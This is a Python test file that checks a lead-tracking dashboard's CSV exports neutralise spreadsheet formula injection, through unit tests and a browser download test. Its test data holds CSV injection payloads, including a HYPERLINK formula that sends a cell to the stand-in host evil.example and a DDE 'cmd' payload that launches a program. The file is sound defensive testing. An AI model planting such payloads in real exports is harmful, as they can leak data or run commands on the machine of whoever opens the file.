"""Exports people open in spreadsheets never carry a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import duckdb
import pandas as pd
import pytest
from browser import block_network, chromium
from synthetic_marts import build_synthetic_warehouse
from test_dashboard import running_dashboard

from lead_parity.pipeline.publish import open_snapshot, publish_snapshot
from lead_parity.readers.csv_export import safe_csv_bytes
from lead_parity.readers.dashboard import APP
from lead_parity.readers.report import data

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
BENIGN = ["google_ads", "ann@acme.com", "a=b", " =not first", ""]


def _read_back(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_every_formula_start_is_prefixed_and_nothing_else_changes():
    frame = pd.DataFrame(
        {
            "origin": HOSTILE + BENIGN,
            "intent_score": [-5, 3, 0, 7, -1, 2, 1, 2, 3, 4, 5],
            "value_usd": [-1.5] * 11,
        }
    )
    rows = _read_back(safe_csv_bytes(frame))
    assert [r["origin"] for r in rows] == ["'" + h for h in HOSTILE] + BENIGN
    # Numbers are numbers to a spreadsheet, not formulas: they stay as they are.
    assert [r["intent_score"] for r in rows] == [str(v) for v in frame["intent_score"]]
    assert {r["value_usd"] for r in rows} == {"-1.5"}


def test_a_hostile_header_is_neutralised_too():
    rows = _read_back(safe_csv_bytes(pd.DataFrame({"=cmd": ["x"]})))
    assert list(rows[0]) == ["'=cmd"]


def _hostile_snapshot(tmp_path):
    """A published snapshot whose first dropped leads came from campaigns named like formulas."""
    warehouse = tmp_path / "warehouse.duckdb"
    build_synthetic_warehouse(warehouse)
    con = duckdb.connect(str(warehouse))
    ids = [
        r[0]
        for r in con.execute(
            "select conversion_id from marts.rpt_dropped_leads order by conversion_id limit ?",
            [len(HOSTILE)],
        ).fetchall()
    ]
    for conversion_id, origin in zip(ids, HOSTILE, strict=True):
        con.execute(
            "update marts.rpt_dropped_leads set origin = ? where conversion_id = ?",
            [origin, conversion_id],
        )
    con.close()
    published = tmp_path / "published"
    publish_snapshot(warehouse, published)
    return published, ids


def test_the_dashboard_list_exports_hostile_campaigns_as_text(tmp_path):
    published, ids = _hostile_snapshot(tmp_path)
    # The query and the CSV writer the dashboard's Download CSV button uses.
    with open_snapshot(published) as con:
        frame = data.dropped_leads(con, data.period(con).since)
    by_id = {r["conversion_id"]: r for r in _read_back(safe_csv_bytes(frame))}
    assert len(by_id) == len(frame)
    for conversion_id, origin in zip(ids, HOSTILE, strict=True):
        assert by_id[conversion_id]["origin"] == "'" + origin
    assert "safe_csv_bytes(frame)" in APP.read_text()


@pytest.mark.browser
def test_the_dashboard_download_neutralises_a_hostile_campaign(tmp_path):
    published, ids = _hostile_snapshot(tmp_path)
    with (
        running_dashboard(published, tmp_path / "streamlit.log") as dashboard,
        chromium() as browser,
    ):
        context = browser.new_context(
            viewport={"width": 1400, "height": 1000}, accept_downloads=True
        )
        blocked = block_network(
            context, (f"http://127.0.0.1:{dashboard['port']}/", "data:", "blob:")
        )
        page = context.new_page()
        page.goto(dashboard["url"])
        button = page.get_by_role("button", name="Download CSV")
        button.wait_for(timeout=120_000)
        button.scroll_into_view_if_needed()
        with page.expect_download(timeout=60_000) as download:
            button.click()
        data = download.value.path().read_bytes()
        context.close()
    assert blocked == []
    by_id = {r["conversion_id"]: r for r in _read_back(data)}
    for conversion_id, origin in zip(ids, HOSTILE, strict=True):
        assert by_id[conversion_id]["origin"] == "'" + origin
    first_chars = {v[:1] for row in by_id.values() for v in row.values() if v}
    assert not first_chars & {"=", "+", "@", "\t", "\r"}
